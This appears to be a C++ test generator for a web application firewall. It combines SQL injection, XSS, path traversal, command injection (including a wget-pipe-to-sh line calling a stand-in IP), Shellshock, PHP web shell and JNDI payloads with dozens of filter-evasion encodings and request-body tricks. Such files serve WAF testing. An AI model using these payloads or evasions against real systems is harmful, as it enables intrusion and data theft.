#include "evasion.h"

#include <fmt/format.h>

#include <cctype>

namespace leeward::waf::evasion {
namespace {

using Text = std::string;
using View = std::string_view;

struct Attack {
  View kind;
  View payload;
};

constexpr Attack kAttacks[] = {
    {"sqli", "1' OR '1'='1' -- "},
    {"sqli", "1 UNION SELECT username, password FROM users"},
    {"sqli", "1; DROP TABLE users; --"},
    {"sqli", "1 AND SLEEP(5)"},
    {"sqli", "1' AND EXTRACTVALUE(1, CONCAT(0x7e, VERSION())) -- "},
    {"xss", "<script>alert(document.cookie)</script>"},
    {"xss", "<img src=x onerror=alert(1)>"},
    {"xss", "<svg/onload=alert(1)>"},
    {"xss", "<a href=\"javascript:alert(1)\">x</a>"},
    {"lfi", "../../../../etc/passwd"},
    {"lfi", "..\\..\\..\\windows\\win.ini"},
    {"lfi", "/proc/self/environ"},
    {"rce", "; cat /etc/passwd"},
    {"rce", "$(wget http://203.0.113.9/x -O- | sh)"},
    {"rce", "() { :; }; /bin/bash -c id"},
    {"php", "<?php system($_GET['c']); ?>"},
    {"php", "php://filter/convert.base64-encode/resource=index"},
    {"rfi", "http://203.0.113.9/shell.txt?"},
    {"java", "${jndi:ldap://203.0.113.9/a}"},
    {"java", "java.lang.Runtime.getRuntime().exec(\"id\")"},
    {"nosql", "{\"$where\": \"sleep(100)\"}"},
    {"benign", "The quick brown fox"},
    {"benign", "2026-11-29"},
    {"benign", "user@example.com"},
    {"benign", "\xec\x95\x88\xeb\x85\x95\xed\x95\x98\xec\x84\xb8\xec\x9a\x94"},
};

bool is_plain(char c) { return std::isalnum(static_cast<unsigned char>(c)) != 0; }

// Each byte for which `which` says yes is replaced by what `how` writes for it.
template <typename Which, typename How>
Text replaced(View text, Which which, How how) {
  Text out;
  for (const char c : text) {
    if (which(c))
      out += how(c);
    else
      out += c;
  }
  return out;
}
Text hex(const char* format, char c) {
  return fmt::format(fmt::runtime(format), static_cast<unsigned char>(c));
}
bool always(char) { return true; }
bool not_plain(char c) { return !is_plain(c); }
bool is_blank(char c) { return c == ' '; }
bool is_ascii(char c) { return static_cast<unsigned char>(c) < 0x80; }
bool is_ascii_mark(char c) { return is_ascii(c) && !is_plain(c) && c != ' '; }

Text percent(View text) {
  return replaced(text, not_plain, [](char c) { return hex("%{:02x}", c); });
}
Text percent_all(View text) {
  return replaced(text, always, [](char c) { return hex("%{:02X}", c); });
}
Text double_percent(View text) { return percent(percent_all(text)); }
Text triple_percent(View text) { return percent(double_percent(text)); }
Text percent_u(View text) {
  return replaced(text, not_plain, [](char c) { return hex("%u{:04x}", c); });
}
Text full_width(View text) {  // U+FF01 … for '!' …
  return replaced(text, not_plain, [](char c) {
    const auto byte = static_cast<unsigned char>(c);
    return byte > 0x20 && byte < 0x7f ? fmt::format("%uff{:02x}", byte - 0x20) : hex("%{:02x}", c);
  });
}
Text overlong_two(View text) {
  return replaced(text, not_plain, [](char c) {
    const auto byte = static_cast<unsigned char>(c);
    return byte < 0x80 ? fmt::format("%c{:x}%{:02x}", byte >> 6, 0x80 | (byte & 0x3f))
                       : hex("%{:02x}", c);
  });
}
Text overlong_three(View text) {
  return replaced(text, not_plain, [](char c) {
    const auto byte = static_cast<unsigned char>(c);
    return byte < 0x80 ? fmt::format("%e0%{:02x}%{:02x}", 0x80 | byte >> 6, 0x80 | (byte & 0x3f))
                       : hex("%{:02x}", c);
  });
}
Text plus_blanks(View text) {
  return replaced(text, not_plain, [](char c) { return c == ' ' ? Text("+") : hex("%{:02x}", c); });
}
Text broken_percent(View text) { return "%" + percent(text) + "%zz"; }

Text entity_decimal(View text) {
  return replaced(text, is_ascii_mark, [](char c) { return hex("&#{};", c); });
}
Text entity_hex(View text) {
  return replaced(text, is_ascii_mark, [](char c) { return hex("&#x{:x};", c); });
}
Text entity_padded(View text) {
  return replaced(text, is_ascii_mark, [](char c) { return hex("&#0000{}", c); });
}
Text entity_named(View text) {
  return replaced(
      text, [](char c) { return c == '<' || c == '>' || c == '"' || c == '&'; },
      [](char c) {
        return Text(c == '<' ? "&lt;" : c == '>' ? "&gt" : c == '"' ? "&quot;" : "&amp;");
      });
}
Text script_hex(View text) {
  return replaced(text, is_ascii_mark, [](char c) { return hex("\\x{:02x}", c); });
}
Text script_unicode(View text) {
  return replaced(text, is_ascii_mark, [](char c) { return hex("\\u{:04x}", c); });
}
Text script_octal(View text) {
  return replaced(text, is_ascii_mark, [](char c) { return hex("\\{:o}", c); });
}
Text style_escape(View text) {
  return replaced(text, is_ascii_mark, [](char c) { return hex("\\0000{:x} ", c); });
}
Text case_mixed(View text) {
  bool upper = false;
  return replaced(text, always, [&upper](char c) {
    upper = !upper;
    const int letter = static_cast<unsigned char>(c);
    return Text(1, static_cast<char>(upper ? std::toupper(letter) : std::tolower(letter)));
  });
}
Text sql_comments(View text) {
  return replaced(text, is_blank, [](char) { return Text("/**/"); });
}
Text sql_long_comments(View text) {
  return replaced(text, is_blank, [](char) { return Text("/*x*y\n*/"); });
}
Text sql_version_comment(View text) { return "1/*!50000" + Text(text) + "*/"; }
Text line_comments(View text) {
  return replaced(text, is_blank, [](char) { return Text("-- x\n"); });
}
Text tabs(View text) {
  return replaced(text, is_blank, [](char) { return Text("\t"); });
}
Text line_feeds(View text) {
  return replaced(text, is_blank, [](char) { return Text("\r\n"); });
}
Text odd_blanks(View text) {
  return replaced(text, is_blank, [](char) { return Text("\v\f"); });
}
Text no_break_blanks(View text) {
  return replaced(text, is_blank, [](char) { return Text("\xc2\xa0"); });
}
Text nul_within(View text) {
  Text out(text);
  return out.insert(out.size() / 2, 1, '\0');
}
Text nul_first(View text) { return Text(1, '\0') + Text(text); }
Text nul_suffix(View text) { return Text(text) + Text(1, '\0') + ".jpg"; }
Text control_within(View text) {
  Text out(text);
  return out.insert(out.size() / 2, 1, '\x01');
}
Text shell_quotes(View text) {
  Text out;
  for (std::size_t i = 0; i < text.size(); ++i) {
    out += text[i];
    if (i + 1 < text.size() && std::islower(static_cast<unsigned char>(text[i])) &&
        std::islower(static_cast<unsigned char>(text[i + 1])) && i % 3 == 0)
      out += "''";
  }
  return out;
}
Text shell_backslashes(View text) {
  return replaced(
      text, [](char c) { return c == 'a' || c == 't'; }, [](char c) { return Text("\\") + c; });
}
Text shell_blank(View text) {
  return replaced(text, is_blank, [](char) { return Text("${IFS}"); });
}
Text with_slashes(View text, View slash) {
  return replaced(
      text, [](char c) { return c == '/' || c == '\\'; }, [slash](char) { return Text(slash); });
}
Text path_dot(View text) { return with_slashes(text, "/./"); }
Text path_double(View text) { return with_slashes(text, "//"); }
Text path_backslash(View text) { return with_slashes(text, "\\"); }
Text path_parameter(View text) { return with_slashes(text, ";x=y/"); }
Text path_dots(View text) {
  Text out(text);
  for (std::size_t at = 0; (at = out.find("../", at)) != Text::npos; at += 6)
    out.replace(at, 3, "....//");
  return out;
}
Text padded(View text) { return Text(3'000, 'a') + " " + Text(text); }
Text quoted_prefix(View text) { return "x\" y' " + Text(text); }
Text same(View text) { return Text(text); }

struct Technique {
  View name;
  Text (*mutate)(View);  // what the payload becomes
  Text (*wire)(View);    // how a query string or a form writes it
};

constexpr Technique kTechniques[] = {
    {"plain", same, percent},
    {"percent, all of it", same, percent_all},
    {"double percent", same, double_percent},
    {"triple percent", same, triple_percent},
    {"%u", same, percent_u},
    {"full width", same, full_width},
    {"overlong, two bytes", same, overlong_two},
    {"overlong, three bytes", same, overlong_three},
    {"plus for blanks", same, plus_blanks},
    {"invalid percent beside it", same, broken_percent},
    {"entities, decimal", entity_decimal, percent},
    {"entities, hexadecimal", entity_hex, percent},
    {"entities, padded, unended", entity_padded, percent},
    {"entities, named", entity_named, percent},
    {"script \\x", script_hex, percent},
    {"script \\u", script_unicode, percent},
    {"script octal", script_octal, percent},
    {"style escapes", style_escape, percent},
    {"mixed case", case_mixed, percent},
    {"sql comments", sql_comments, percent},
    {"sql comments of two lines", sql_long_comments, percent},
    {"sql version comment", sql_version_comment, percent},
    {"sql line comments", line_comments, percent},
    {"tabs", tabs, percent},
    {"line feeds", line_feeds, percent},
    {"vertical tab and form feed", odd_blanks, percent},
    {"no-break blanks", no_break_blanks, percent},
    {"NUL within", nul_within, percent},
    {"NUL first", nul_first, percent},
    {"NUL and a suffix", nul_suffix, percent},
    {"control character within", control_within, percent},
    {"shell quotes", shell_quotes, percent},
    {"shell backslashes", shell_backslashes, percent},
    {"shell ${IFS}", shell_blank, percent},
    {"path /./", path_dot, percent},
    {"path //", path_double, percent},
    {"path backslash", path_backslash, percent},
    {"path parameters", path_parameter, percent},
    {"path ....//", path_dots, percent},
    {"padding", padded, percent},
    {"after a quote", quoted_prefix, percent},
};

bool only_on_wire(const Technique& technique) {
  return technique.mutate == same && technique.name != "plain";
}

// EBCDIC, code page 37, of each ASCII character.
constexpr unsigned char kIbm037[128] = {
    0x00, 0x01, 0x02, 0x03, 0x37, 0x2d, 0x2e, 0x2f, 0x16, 0x05, 0x25, 0x0b, 0x0c, 0x0d, 0x0e, 0x0f,
    0x10, 0x11, 0x12, 0x13, 0x3c, 0x3d, 0x32, 0x26, 0x18, 0x19, 0x3f, 0x27, 0x1c, 0x1d, 0x1e, 0x1f,
    0x40, 0x5a, 0x7f, 0x7b, 0x5b, 0x6c, 0x50, 0x7d, 0x4d, 0x5d, 0x5c, 0x4e, 0x6b, 0x60, 0x4b, 0x61,
    0xf0, 0xf1, 0xf2, 0xf3, 0xf4, 0xf5, 0xf6, 0xf7, 0xf8, 0xf9, 0x7a, 0x5e, 0x4c, 0x7e, 0x6e, 0x6f,
    0x7c, 0xc1, 0xc2, 0xc3, 0xc4, 0xc5, 0xc6, 0xc7, 0xc8, 0xc9, 0xd1, 0xd2, 0xd3, 0xd4, 0xd5, 0xd6,
    0xd7, 0xd8, 0xd9, 0xe2, 0xe3, 0xe4, 0xe5, 0xe6, 0xe7, 0xe8, 0xe9, 0xba, 0xe0, 0xbb, 0xb0, 0x6d,
    0x79, 0x81, 0x82, 0x83, 0x84, 0x85, 0x86, 0x87, 0x88, 0x89, 0x91, 0x92, 0x93, 0x94, 0x95, 0x96,
    0x97, 0x98, 0x99, 0xa2, 0xa3, 0xa4, 0xa5, 0xa6, 0xa7, 0xa8, 0xa9, 0xc0, 0x4f, 0xd0, 0xa1, 0x07};

Text ibm037(View text) {
  Text out;
  for (const unsigned char c : text) out += static_cast<char>(c < 128 ? kIbm037[c] : c);
  return out;
}

Text utf_16(View text) {  // with its mark, little end first
  Text out = "\xff\xfe";
  for (const char c : text) (out += c) += '\0';
  return out;
}

Text utf_7(View text) {  // RFC 2152: what a filter looks for, in base64 between + and -
  Text out;
  for (const char c : text) {
    if (c == '<')
      out += "+ADw-";
    else if (c == '>')
      out += "+AD4-";
    else if (c == '"')
      out += "+ACI-";
    else if (c == '\'')
      out += "+ACc-";
    else
      out += c;
  }
  return out;
}

Text json_string(View text) {
  return replaced(
      text, [](char c) { return c == '"' || c == '\\' || (c >= 0 && c < ' '); },
      [](char c) { return hex("\\u{:04x}", c); });
}
Text json_all(View text) {
  return replaced(text, is_ascii, [](char c) { return hex("\\u{:04X}", c); });
}
Text xml_text(View text) {
  return replaced(
      text, [](char c) { return c == '<' || c == '&' || c == '>'; },
      [](char c) { return hex("&#x{:x};", c); });
}
Text multipart(View headers, View value, View end = "\r\n--XyZ--\r\n", View line_end = "\r\n") {
  return fmt::format("--XyZ{0}{1}{0}{0}{2}{3}", line_end, headers, value, end);
}

constexpr View kForm = "application/x-www-form-urlencoded";
constexpr View kMultipart = "multipart/form-data; boundary=XyZ";
constexpr View kField = "Content-Disposition: form-data; name=\"q\"";

class Writer {
 public:
  Writer(std::vector<Request>& out, View attack, View technique)
      : out_(out), attack_(attack), technique_(technique) {}

  void get(View place, Text target, std::vector<std::pair<Text, Text>> fields = {}) {
    add(place, "GET", std::move(target), std::move(fields), "");
  }
  void post(View place, View content_type, Text body) {
    add(place, "POST", "/", {{"Content-Type", Text(content_type)}}, std::move(body));
  }

 private:
  void add(View place, View method, Text target, std::vector<std::pair<Text, Text>> fields,
           Text body) {
    Request request{
        Text(attack_), Text(technique_), Text(place), Text(method), std::move(target), {}, {}};
    request.fields = {{"Host", "shop.example"}, {"User-Agent", "Mozilla/5.0"}, {"Accept", "*/*"}};
    for (auto& field : fields) request.fields.push_back(std::move(field));
    if (method == "POST")
      request.fields.emplace_back("Content-Length", std::to_string(body.size()));
    request.body = std::move(body);
    out_.push_back(std::move(request));
  }
  std::vector<Request>& out_;
  View attack_;
  View technique_;
};

// What a header can carry.
Text one_line(View text) {
  return replaced(
      text, [](char c) { return c == '\r' || c == '\n' || c == '\0'; },
      [](char) { return Text(" "); });
}

void in_every_place(std::vector<Request>& out, const Attack& attack, const Technique& technique) {
  Writer write(out, attack.kind, technique.name);
  const Text payload = technique.mutate(attack.payload);
  const Text wire = technique.wire(payload);
  write.get("query", "/?q=" + wire);
  write.get("name of an argument", "/?" + wire + "=1");
  write.get("path", "/x/" + wire);
  write.post("form", kForm, "a=b&q=" + wire);
  if (only_on_wire(technique)) return;
  write.post("json", "application/json", R"({"a":1,"q":")" + json_string(payload) + "\"}");
  write.post("json, nested", "application/json",
             R"({"a":[{"b":")" + json_string(payload) + "\"}]}");
  write.post("xml", "text/xml", "<?xml version=\"1.0\"?><a><b>" + xml_text(payload) + "</b></a>");
  write.post("multipart", kMultipart, multipart(kField, payload));
  write.get("cookie", "/", {{"Cookie", "s=1; q=" + wire}});
  write.get("user agent", "/", {{"User-Agent", one_line(payload)}});
  write.get("referer", "/", {{"Referer", one_line(payload)}});
}

// Tricks of a body's own form, with the payload as it is.
void in_odd_bodies(std::vector<Request>& out, const Attack& attack) {
  const Text payload(attack.payload);
  const Text wire = percent(payload);
  Writer pollution(out, attack.kind, "parameter pollution");
  pollution.get("query", "/?q=1&q=" + wire + "&q=2");
  pollution.get("query, array", "/?q[]=1&q[]=" + wire);
  pollution.get("query, semicolon", "/?q=1;q=" + wire);
  pollution.post("form and query", kForm, "q=" + wire);
  Text many;
  for (int i = 0; i < 300; ++i) many += fmt::format("p{}=1&", i);
  pollution.post("form, after 300 others", kForm, many + "q=" + wire);

  Writer json(out, attack.kind, "json tricks");
  json.post("every character escaped", "application/json", R"({"q":")" + json_all(payload) + "\"}");
  json.post("a key twice", "application/json", R"({"q":"a","q":")" + json_string(payload) + "\"}");
  json.post("as a key", "application/json", "{\"" + json_string(payload) + "\":1}");
  json.post("blanks around", "application/json",
            "\n\t {\t\"q\"\n:\r\"" + json_string(payload) + "\" }\n");
  json.post("with a suffix", "application/vnd.api+json",
            R"({"q":")" + json_string(payload) + "\"}");
  json.post("with a charset", "application/json; charset=utf-8",
            R"({"q":")" + json_string(payload) + "\"}");
  json.post("not complete", "application/json", R"({"q":")" + json_string(payload) + "\"");

  Writer parts(out, attack.kind, "multipart tricks");
  parts.post("quoted boundary", "multipart/form-data; boundary=\"XyZ\"",
             multipart(kField, payload));
  parts.post("upper case type", "Multipart/Form-Data; boundary=XyZ", multipart(kField, payload));
  parts.post("LF alone", kMultipart, multipart(kField, payload, "\n--XyZ--\n", "\n"));
  parts.post("folded header", kMultipart,
             multipart("Content-Disposition: form-data;\r\n name=\"q\"", payload));
  parts.post("single quotes", kMultipart,
             multipart("Content-Disposition: form-data; name='q'", payload));
  parts.post("without quotes", kMultipart,
             multipart("Content-Disposition: form-data; name=q", payload));
  parts.post("no final boundary", kMultipart, multipart(kField, payload, "\r\n"));
  parts.post("final boundary unended", kMultipart, multipart(kField, payload, "\r\n--XyZ--"));
  parts.post("data before", kMultipart, "x\r\n" + multipart(kField, payload));
  parts.post("data after", kMultipart, multipart(kField, payload) + "x");
  parts.post("as a file", kMultipart,
             multipart("Content-Disposition: form-data; name=\"q\"; filename=\"a.txt\"", payload));
  parts.post("as a file's name", kMultipart,
             multipart("Content-Disposition: form-data; name=\"q\"; filename=\"" +
                           replaced(
                               payload, [](char c) { return c == '"' || c == '\\'; },
                               [](char c) { return Text("\\") + c; }) +
                           "\"",
                       "x"));
  parts.post(
      "filename*", kMultipart,
      multipart(
          "Content-Disposition: form-data; name=\"q\"; filename=\"a\"; filename*=UTF-8''" + wire,
          "x"));
  parts.post(
      "two dispositions", kMultipart,
      multipart("Content-Disposition: form-data; name=\"q\"\r\nContent-Disposition: form-data; "
                "name=\"r\"; filename=\"x\"",
                payload));
  parts.post("another boundary", kMultipart, multipart(kField, "x\r\n--Other\r\n" + payload));
  parts.post("a charset for the part", kMultipart,
             multipart(Text(kField) + "\r\nContent-Type: text/plain; charset=utf-7", payload));

  Writer types(out, attack.kind, "content types");
  types.post("form, upper case", "APPLICATION/X-WWW-FORM-URLENCODED", "q=" + wire);
  types.post("form, ibm500", "application/x-www-form-urlencoded; charset=ibm500", "q=" + wire);
  types.post("form, utf-16", "application/x-www-form-urlencoded; charset=utf-16", "q=" + wire);
  types.post("form in ibm037", "application/x-www-form-urlencoded; charset=ibm037",
             percent_all(ibm037("q")) + "=" + percent_all(ibm037(payload)));
  types.post("form in utf-7", "application/x-www-form-urlencoded; charset=utf-7",
             "q=" + percent_all(utf_7(payload)));
  types.post("json in utf-16", "application/json; charset=utf-16",
             utf_16(R"({"q":")" + json_string(payload) + "\"}"));
  types.post("xml in utf-16", "text/xml; charset=utf-16",
             utf_16("<a>" + xml_text(payload) + "</a>"));
  types.post("plain text", "text/plain", "q=" + payload);
  types.post("no known type", "application/unknown", "q=" + payload);
  types.post("form that is json", kForm, R"({"q":")" + json_string(payload) + "\"}");
  types.post("json that is a form", "application/json", "q=" + wire);

  Writer xml(out, attack.kind, "xml tricks");
  xml.post("CDATA", "text/xml", "<a><![CDATA[" + payload + "]]></a>");
  xml.post("attribute", "application/xml",
           "<a b=\"" +
               replaced(
                   xml_text(payload), [](char c) { return c == '"'; },
                   [](char) { return Text("&quot;"); }) +
               "\"/>");
  xml.post("comment between", "text/xml",
           "<a>" + xml_text(payload.substr(0, payload.size() / 2)) + "<!-- x -->" +
               xml_text(payload.substr(payload.size() / 2)) + "</a>");
  xml.post("entity", "text/xml",
           "<!DOCTYPE a [<!ENTITY e \"" +
               replaced(
                   xml_text(payload), [](char c) { return c == '"' || c == '%'; },
                   [](char c) { return hex("&#{};", c); }) +
               "\">]><a>&e;</a>");
}

}  // namespace

std::vector<Request> all() {
  std::vector<Request> requests;
  for (const Attack& attack : kAttacks) {
    for (const Technique& technique : kTechniques) in_every_place(requests, attack, technique);
    in_odd_bodies(requests, attack);
  }
  return requests;
}

std::vector<std::string> techniques() {
  std::vector<std::string> names;
  for (const Technique& technique : kTechniques) names.emplace_back(technique.name);
  for (const char* name :
       {"parameter pollution", "json tricks", "multipart tricks", "content types", "xml tricks"})
    names.emplace_back(name);
  return names;
}

}  // namespace leeward::waf::evasion
